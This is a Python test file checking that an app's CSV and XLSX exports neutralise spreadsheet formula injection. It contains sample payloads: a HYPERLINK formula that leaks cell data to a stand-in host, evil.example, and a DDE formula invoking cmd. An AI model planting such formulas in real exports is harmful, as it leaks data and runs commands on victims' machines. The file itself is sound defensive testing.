"""Exports are safe to open: a value a device or a person typed that a spreadsheet would run as a
formula (OWASP "CSV Injection": a cell starting with =, +, -, @, tab or CR) comes out with a
leading ', in every CSV, csv.zip and XLSX writer; a number in a column the form types as a number
stays a number; XLSX cells from submissions are strings or numbers, never formulas."""
import csv
import io
import re
import zipfile

import pytest
from lxml import etree
from openpyxl import load_workbook

from fieldsync import exports
from fieldsync.api import indicators as api_indicators
from fieldsync.exports import writers
from fieldsync.formats import cells
from fieldsync.indicators.values import Cell

from collect import instance_xml, post
from xlsforms import workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
SURVEY = [
    {"type": "text", "name": "grantee", "label": "Grantee"},
    {"type": "text", "name": "remark", "label": "Remark"},
    {"type": "text", "name": "plus", "label": "Plus"},
    {"type": "text", "name": "minus", "label": "Minus"},
    {"type": "text", "name": "at", "label": "At"},
    {"type": "text", "name": "tab", "label": "Tab"},
    {"type": "text", "name": "cr", "label": "CR"},
    {"type": "text", "name": "negative_text", "label": "A number, in a text field"},
    {"type": "integer", "name": "count", "label": "Count"},
    {"type": "integer", "name": "count_formula", "label": "Count (not a number)"},
    {"type": "decimal", "name": "amount", "label": "Amount"},
    {"type": "geopoint", "name": "where", "label": "Where"},
    {"type": "begin_repeat", "name": "people", "label": "People"},
    {"type": "text", "name": "who", "label": "Who"},
    {"type": "integer", "name": "age", "label": "Age"},
    {"type": "end_repeat", "name": "people", "label": ""},
]
SENT = {"grantee": "chinek", "remark": HYPERLINK, "plus": "+1+1", "minus": "-2+3", "at": DDE,
        "tab": "\t=1+1", "cr": "\r=1+1", "negative_text": "-7", "count": "-5", "count_formula": "-1+cmd|x",
        "amount": "-1.5", "where": "-12.5 -77.25 -3 5",
        "people": [{"who": "=1+1", "age": "-1"}, {"who": "Aigul", "age": "30"}]}
# What each column must hold when the file is read back (csv.reader, openpyxl).
TEXT = {"remark": "'" + HYPERLINK, "plus": "'+1+1", "minus": "'-2+3", "at": "'" + DDE,
        # A field's text is read stripped, so the formula behind a leading tab or CR is what is left.
        "tab": "'=1+1", "cr": "'=1+1", "negative_text": "'-7", "count_formula": "'-1+cmd|x",
        "DeviceID": "'=2+2", "SubmitterName": "'@phone", "grantee": "chinek"}
NUMBERS = {"count": -5, "amount": -1.5}
GEO = {"where-Latitude": "-12.5", "where-Longitude": "-77.25", "where-Altitude": "-3", "where-Accuracy": "5"}


@pytest.fixture
def sent(app, cli, client, make_app_user, tmp_path):
    path = tmp_path / "cells_form.xlsx"
    path.write_bytes(workbook("cells_form", survey=SURVEY, choices=[]))
    assert cli("forms", "publish", str(path), "--no-validate").exit_code == 0
    token = make_app_user(name="@phone", grantee="chinek")["token"]
    form = client.get(f"/v1/key/{token}/projects/1/forms/cells_form.xml").data
    response = post(client, f"/v1/key/{token}/projects/1/submission?deviceID=%3D2%2B2", instance_xml(form, SENT))
    assert response.status_code == 201, response.data


def check_root(row: dict):
    for column, expected in {**TEXT, **GEO}.items():
        assert row[column] == expected, column
    assert row["count"] == "-5" and row["amount"] == "-1.5"


def check_people(rows: list[dict]):
    assert [(r["who"], r["age"]) for r in rows] == [("'=1+1", "-1"), ("Aigul", "30")]


def test_the_neutraliser():
    for trigger in "=+-@\t\r":
        assert cells.neutral(trigger + "1") == "'" + trigger + "1"
        assert cells.typed(trigger + "x", "int") == "'" + trigger + "x"
    for left in ("", "Kant", "'=1", " =1", " -5", "2026-11-20", "1-2", None, 5, -5, -1.5):
        assert cells.neutral(left) == left
    assert [cells.typed(v, "int") for v in ("-5", "+5", "-1.5", "-1e3")] == ["-5", "+5", "-1.5", "-1e3"]
    assert cells.typed("-0.5", "geopoint") == "-0.5" and cells.typed("-5", "decimal") == "-5"
    # A number in a text column, and what int() or float() would take but is no number, are text.
    for value, kind in (("-5", "string"), ("-5", None), ("-1_000", "int"), ("-inf", "decimal"),
                        ("-nan", "decimal"), ("-5\n=1", "int")):
        assert cells.typed(value, kind) == "'" + value, (value, kind)


def test_api_csv_and_csv_zip_are_neutralised_and_quoted(client, make_user, sent):
    coordinator = make_user("coordinator")
    response = client.get("/v1/projects/1/forms/cells_form/submissions.csv", headers=coordinator)
    assert response.status_code == 200
    text = response.data.decode()
    # The csv module still quotes the neutralised cell, doubling its quotes (RFC 4180).
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in text
    row, = csv.DictReader(io.StringIO(text))
    check_root(row)
    response = client.get("/v1/projects/1/forms/cells_form/submissions.csv.zip", headers=coordinator)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        root, = csv.DictReader(io.StringIO(archive.read("cells_form.csv").decode()))
        people = list(csv.DictReader(io.StringIO(archive.read("cells_form-people.csv").decode())))
    check_root(root)
    check_people(people)


def start(web, **fields):
    response = web.post("/exports", data={"what": "submissions", "form": "cells_form", **fields})
    assert response.status_code == 302, response.data
    job_id = int(re.search(r"#job-(\d+)$", response.headers["Location"]).group(1))
    assert exports.wait(job_id, 60)
    response = web.get(f"/exports/{job_id}/download")
    assert response.status_code == 200
    return response.data


def test_background_csv_zip_is_neutralised(app, web_client, sent):
    data = start(web_client("coordinator"), format="zip")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root, = csv.DictReader(io.StringIO(archive.read("cells_form.csv").decode()))
        people = list(csv.DictReader(io.StringIO(archive.read("cells_form-people.csv").decode())))
    check_root(root)
    check_people(people)


def sheet_cells(data: bytes) -> list[tuple[str, str | None, bool]]:
    """(reference, t attribute, has a formula) of every cell in every sheet of an XLSX file."""
    out = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                for cell in etree.fromstring(archive.read(name)).iter("{*}c"):
                    out.append((cell.get("r"), cell.get("t"), cell.find("{*}f") is not None))
    return out


def test_background_xlsx_has_text_and_numbers_never_formulas(app, web_client, sent):
    data = start(web_client("coordinator"), format="xlsx")
    found = sheet_cells(data)
    assert found and not any(formula for _r, _t, formula in found)
    assert {t for _r, t, _f in found} <= {"inlineStr", "s", "n", None}
    book = load_workbook(io.BytesIO(data))
    sheet = book["cells_form"]
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2])}
    for column, expected in {**TEXT, **GEO}.items():
        assert row[column].value == expected and row[column].data_type == "s", column
    for column, expected in NUMBERS.items():
        assert row[column].value == expected and row[column].data_type == "n", column
    people = book["people"]
    header = [c.value for c in people[1]]
    rows = [dict(zip(header, (c.value for c in r))) for r in people.iter_rows(min_row=2)]
    assert [(r["who"], r["age"]) for r in rows] == [("'=1+1", -1), ("Aigul", 30)]


HOSTILE = [["=1+1", "-name", "chinek", "2026", "@total", -3, None, -12.5]]


def test_indicator_writers_neutralise_text_but_not_numbers(tmp_path):
    out = io.BytesIO()
    writers.indicators_csv(out, HOSTILE, lambda *a, **k: None)
    _header, row = list(csv.reader(io.StringIO(out.getvalue().decode())))
    assert row == ["'=1+1", "'-name", "chinek", "2026", "'@total", "-3", "", "-12.5"]
    out = io.BytesIO()
    writers.indicators_xlsx(out, HOSTILE, lambda *a, **k: None)
    assert not any(formula for _r, _t, formula in sheet_cells(out.getvalue()))
    values = [c.value for c in list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(min_row=2))[0]]
    assert values == ["'=1+1", "'-name", "chinek", "2026", "'@total", -3, None, -12.5]
    cell = Cell(indicator="=x", org_unit="+y", period="2026", coc="-z", value=-2)
    assert list(api_indicators._rows([cell]))[0][:5] == ["'=x", "2026", "'+y", "'-z", "-2"]


def test_api_indicator_tables_download(client, make_user, sent):
    coordinator = make_user("coordinator")
    response = client.get("/v1/projects/1/indicator-values.csv?period=2026", headers=coordinator)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith('attachment; filename="indicator-values.csv"')
    response = client.get("/v1/projects/1/indicator-values.xlsx", headers=coordinator)
    assert response.status_code == 200
    assert not any(formula for _r, _t, formula in sheet_cells(response.data))
